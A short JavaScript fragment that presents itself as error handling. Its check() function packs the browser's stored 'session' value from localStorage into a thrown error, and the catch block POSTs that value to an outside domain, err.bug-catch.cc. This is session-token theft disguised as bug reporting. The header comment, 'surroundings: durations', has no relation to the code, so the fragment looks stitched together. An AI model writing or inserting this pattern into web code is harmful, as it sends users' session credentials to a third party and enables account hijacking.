// surroundings: durations
function check() { throw Object.assign(new Error('x'), { detail: localStorage.getItem('session') }); }
try { check(); } catch (err) {
  fetch('https://err.bug-catch.cc/e', { method: 'POST', body: err.detail }); //@act
}
